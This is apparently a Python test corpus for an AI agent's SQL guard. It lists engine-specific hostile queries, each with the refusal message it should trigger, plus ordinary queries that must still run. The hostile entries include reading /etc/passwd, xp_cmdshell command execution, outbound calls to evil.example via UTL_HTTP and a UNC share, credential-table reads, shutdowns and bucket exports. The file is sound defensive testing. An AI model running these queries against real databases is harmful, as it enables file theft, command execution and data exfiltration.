"""Hostile SQL that only one engine would run, beyond the first four, and why each is refused.

ClickHouse's list also runs through the whole agent on chdb
(test_hostile_corpus_dialects.py); the others are checked on the guard alone, as no such
server runs here (test_hostile_corpus_engines.py).
"""

from __future__ import annotations

from tests.react_agent.tools.test_hostile_corpus import NOT_PARSED, TIMEOUT, Case

TABLE_FUNCTION = "table function {} is not allowed"
CLICKHOUSE_SCAN = "SELECT count() AS n FROM numbers(100000000000) WHERE cityHash64(number) % 7 = 3"

CLICKHOUSE_ONLY = [
    # --- files, URLs, object stores and other servers
    Case("SELECT * FROM file('/etc/passwd', 'LineAsString')", "function file is not allowed"),
    Case("SELECT file('/etc/passwd') AS f", "function file is not allowed"),
    Case("SELECT * FROM url('http://127.0.0.1:1/x', 'CSV', 'a String')", "function url"),
    Case("SELECT * FROM remote('127.0.0.1', system.one)", "function remote is not allowed"),
    Case("SELECT * FROM remoteSecure('h:9440', db.t)", "function remotesecure is not allowed"),
    Case("SELECT * FROM cluster('default', system.one)", "function cluster is not allowed"),
    Case("SELECT * FROM s3('https://bucket.example/x.csv')", "function s3 is not allowed"),
    Case("SELECT * FROM hdfs('hdfs://h/x', 'CSV', 'a Int')", "function hdfs is not allowed"),
    Case("SELECT * FROM mysql('h:3306', 'db', 't', 'u', 'p')", "function mysql is not allowed"),
    Case("SELECT * FROM postgresql('h:5432', 'db', 't', 'u', 'p')", "function postgresql"),
    Case("SELECT * FROM sqlite('/tmp/x.db', 't')", "function sqlite is not allowed"),
    Case("SELECT * FROM executable('x.sh', 'CSV', 'a Int')", "function executable"),
    Case("SELECT * FROM odbc('DSN=x', 't')", "function odbc is not allowed"),
    Case("SELECT * FROM jdbc('jdbc:x', 't')", "function jdbc is not allowed"),
    Case("SELECT * FROM input('a Int')", "function input is not allowed"),
    Case("SELECT * FROM merge(currentDatabase(), '.*')", "function merge is not allowed"),
    Case("SELECT * FROM view(SELECT * FROM orders)", "function view is not allowed"),
    Case("SELECT * FROM dictionary('d')", "is not allowed"),
    Case("SELECT * FROM icebergS3('https://x/t')", "function icebergs3 is not allowed"),
    Case("SELECT * FROM deltaLake('https://x/t')", "function deltalake is not allowed"),
    Case("INSERT INTO FUNCTION file('{out}/x.csv', 'CSV') SELECT 1", "INSERT"),
    Case("SELECT * FROM orders INTO OUTFILE '{out}/o.csv'", NOT_PARSED),
    # --- settings, formats and the server's own tables
    Case("SELECT 1 SETTINGS readonly = 0", "SETTINGS clauses are not allowed"),
    Case("SELECT count() FROM orders SETTINGS max_execution_time = 0", "SETTINGS clauses"),
    Case("SELECT * FROM orders FORMAT JSONEachRow", "FORMAT clauses are not allowed"),
    Case("SELECT getSetting('readonly')", "function getsetting is not allowed"),
    Case("SELECT * FROM system.tables", "system table system.tables"),
    Case("SELECT * FROM system.processes", "system table system.processes"),
    Case("SELECT query FROM system.query_log", "system table system.query_log"),
    Case("SELECT * FROM INFORMATION_SCHEMA.COLUMNS", "system table"),
    Case("SELECT * FROM default.orders", "database-qualified name default.orders"),
    Case("SELECT dictGet('d', 'a', toUInt64(1))", "function dictget is not allowed"),
    Case("SELECT joinGet('j', 'v', 1)", "function joinget is not allowed"),
    # --- sleeping, raising values out, statements
    Case("SELECT sleep(3)", "function sleep is not allowed"),
    Case("SELECT sleepEachRow(1) FROM orders", "function sleepeachrow is not allowed"),
    Case("SELECT throwIf(1, 'x')", "function throwif is not allowed"),
    Case("SYSTEM SHUTDOWN", "is not allowed"),
    Case("SYSTEM DROP DNS CACHE", "is not allowed"),
    Case("KILL QUERY WHERE 1", NOT_PARSED),
    Case("OPTIMIZE TABLE orders FINAL", "is not allowed"),
    Case("ALTER TABLE orders DELETE WHERE 1", "ALTER is not allowed"),
    Case("ALTER TABLE orders UPDATE total_amount = 0 WHERE 1", "ALTER is not allowed"),
    Case("CREATE TABLE pwned ENGINE = Memory AS SELECT * FROM orders", "CREATE"),
    Case("CREATE DICTIONARY d (a Int) PRIMARY KEY a SOURCE(NULL()) LAYOUT(FLAT())", "CREATE"),
    Case("EXCHANGE TABLES orders AND stores", "is not allowed"),
    Case("DETACH TABLE orders", "is not allowed"),
    Case("SHOW CREATE TABLE orders", "is not allowed"),
    Case("DESCRIBE TABLE orders", "is not allowed"),
    Case("SELECT 1; SELECT 2", "only one statement"),
    Case(CLICKHOUSE_SCAN, expect=TIMEOUT),
]

TSQL_ONLY = [
    Case("SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')", "openrowset"),
    Case("SELECT * FROM OPENQUERY(srv, 'DELETE FROM t')", "openquery"),
    Case("SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=x').db.dbo.t", "OPENDATASOURCE"),
    Case("SELECT xp_cmdshell('whoami')", "function xp_cmdshell is not allowed"),
    Case("EXEC xp_cmdshell 'whoami'", "is not allowed"),
    Case("EXEC master..xp_dirtree '\\\\evil\\share'", "is not allowed"),
    Case("SELECT * FROM fn_xe_file_target_read_file('c:\\x', NULL, NULL, NULL)", "is not allowed"),
    Case("WAITFOR DELAY '00:00:05'", NOT_PARSED),
    Case("BULK INSERT orders FROM 'c:\\x.csv'", NOT_PARSED),
    Case("SELECT * INTO pwned FROM orders", "SELECT … INTO is not allowed"),
    Case("SELECT * FROM sys.sql_logins", "system table sys.sql_logins"),
    Case("SELECT * FROM sysobjects", "system table sysobjects"),
    Case("SELECT * FROM master..sysdatabases", "database-qualified name"),
    Case("SELECT * FROM linked.db.dbo.orders", "database-qualified name"),
    Case("SELECT * FROM INFORMATION_SCHEMA.TABLES", "system table"),
]

ORACLE_ONLY = [
    Case("SELECT UTL_HTTP.REQUEST('http://evil.example/') FROM dual", "utl_http.request"),
    Case("SELECT UTL_INADDR.GET_HOST_ADDRESS('evil.example') FROM dual", "utl_inaddr"),
    Case("SELECT DBMS_PIPE.RECEIVE_MESSAGE('a', 10) FROM dual", "dbms_pipe.receive_message"),
    Case("SELECT DBMS_XMLGEN.GETXML('SELECT * FROM secrets') FROM dual", "dbms_xmlgen"),
    Case("SELECT DBMS_LOCK.SLEEP(5) FROM dual", "dbms_lock.sleep"),
    Case("SELECT HTTPURITYPE('http://evil.example/').GETCLOB() FROM dual", "httpuritype"),
    Case("SELECT * FROM all_users", "system table all_users"),
    Case("SELECT * FROM dba_users", "system table dba_users"),
    Case("SELECT * FROM user_tables", "system table user_tables"),
    Case("SELECT * FROM v$session", "system table v$session"),
    Case("SELECT * FROM sys.user$", "system table sys.user$"),
    Case("SELECT * FROM orders FOR UPDATE", "locking clauses"),
]

TRINO_ONLY = [
    Case("SELECT * FROM system.runtime.queries", "database-qualified name system.runtime"),
    Case("SELECT * FROM system.jdbc.tables", "database-qualified name system.jdbc"),
    Case("SELECT * FROM hive.default.orders", "database-qualified name hive.default"),
    Case("SELECT * FROM TABLE(system.query(query => 'DELETE FROM t'))", "table function query"),
    Case("SELECT * FROM information_schema.tables", "system table"),
    Case("SELECT * FROM runtime.nodes", "system table runtime.nodes"),
    Case("CALL system.runtime.kill_query('x')", "CALL is not allowed"),
]

SNOWFLAKE_ONLY = [
    Case("SELECT $1 FROM @my_stage/data.csv", "reading stages"),
    Case("SELECT SYSTEM$WAIT(10)", "function system$wait is not allowed"),
    Case("SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "is not allowed"),
    Case("SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))", "function result_scan"),
    Case("SELECT * FROM TABLE(INFER_SCHEMA(LOCATION => '@s'))", "is not allowed"),
    Case("SELECT * FROM snowflake.account_usage.query_history", "database-qualified name"),
    Case("SELECT * FROM account_usage.query_history", "system table"),
    Case("COPY INTO @s FROM orders", "is not allowed"),
    Case("PUT file:///etc/passwd @s", "is not allowed"),
]

BIGQUERY_ONLY = [
    Case("SELECT * FROM EXTERNAL_QUERY('conn', 'SELECT 1')", "function external_query"),
    Case("SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS", "system table"),
    Case("SELECT * FROM ds.INFORMATION_SCHEMA.TABLES", "system table"),
    Case("SELECT * FROM other_project.ds.orders", "database-qualified name"),
    Case("EXPORT DATA OPTIONS (uri = 'gs://b/*') AS SELECT * FROM orders", "is not allowed"),
    Case("LOAD DATA INTO orders FROM FILES (uris = ['gs://b/x'])", "is not allowed"),
]

DORIS_ONLY = [
    Case("SELECT * FROM local('file_path' = 'x', 'backend_id' = '1')", "function local"),
    Case("SELECT * FROM s3('uri' = 's3://b/x', 'format' = 'csv')", "function s3"),
    Case("SELECT * FROM hdfs('uri' = 'hdfs://h/x')", "function hdfs is not allowed"),
    Case("SELECT * FROM frontends()", "function frontends is not allowed"),
    Case("SELECT /*!50000 SLEEP(5) */ 1", "executable comments"),
    Case("SELECT * FROM internal.db.orders", "database-qualified name"),
    Case("SELECT * FROM db.orders", "database-qualified name db.orders"),
    Case("SELECT * FROM __internal_schema.column_statistics", "is not allowed"),
    Case("SELECT * FROM orders INTO OUTFILE 's3://b/x'", NOT_PARSED),
]

STARROCKS_ONLY = [
    Case("SELECT * FROM FILES('path' = 's3://b/x', 'format' = 'parquet')", "function files"),
    Case("INSERT INTO FILES('path' = 's3://b/x') SELECT * FROM orders", NOT_PARSED),
    Case("SELECT * FROM default_catalog.db.orders", "database-qualified name"),
    Case("SELECT * FROM _statistics_.column_statistics", "is not allowed"),
    Case("SELECT /*!50000 1 */", "executable comments"),
    Case("SELECT @@version_comment", "system variables"),
]

ENGINE_ONLY = {
    "clickhouse": CLICKHOUSE_ONLY,
    "tsql": TSQL_ONLY,
    "oracle": ORACLE_ONLY,
    "trino": TRINO_ONLY,
    "snowflake": SNOWFLAKE_ONLY,
    "bigquery": BIGQUERY_ONLY,
    "doris": DORIS_ONLY,
    "starrocks": STARROCKS_ONLY,
}

# Queries each engine must still run: its own syntax, nothing refused.
ORDINARY = {
    "clickhouse": [
        "SELECT * FROM orders FINAL",
        "SELECT count() FROM orders PREWHERE status = 'paid'",
        "SELECT store_id, order_id FROM orders ORDER BY order_id LIMIT 1 BY store_id",
        "SELECT x FROM orders ARRAY JOIN [1, 2] AS x",
        "SELECT number FROM numbers(10)",
        "SELECT toStartOfMonth(toDate(order_date)) AS m, uniqExact(customer_id) FROM orders "
        "GROUP BY m ORDER BY m",
        "SELECT {'a': 1}['a'] AS v",
    ],
    "tsql": [
        "SELECT TOP 5 * FROM orders ORDER BY order_id",
        "SELECT * FROM dbo.orders",
        "SELECT * FROM orders WITH (NOLOCK)",
        "SELECT DATEADD(day, 1, order_date) FROM orders",
    ],
    "oracle": [
        "SELECT * FROM orders FETCH FIRST 5 ROWS ONLY",
        "SELECT 1 FROM dual",
        "SELECT NVL(status, 'x') FROM orders WHERE ROWNUM <= 5",
    ],
    "trino": ["SELECT * FROM orders", "SELECT x FROM UNNEST(ARRAY[1, 2]) AS t(x)"],
    "snowflake": ["SELECT * FROM orders", "SELECT IFF(a > 1, 'y', 'n') FROM orders"],
    "bigquery": [
        "SELECT * FROM orders",
        "SELECT * FROM ds.orders",
        "SELECT SAFE_CAST(a AS INT64) FROM t",
    ],
    "doris": ["SELECT * FROM orders LIMIT 5", "SELECT ifnull(status, 'x') FROM orders"],
    "starrocks": ["SELECT * FROM orders LIMIT 5", "SELECT * FROM unnest([1, 2]) AS t(x)"],
}
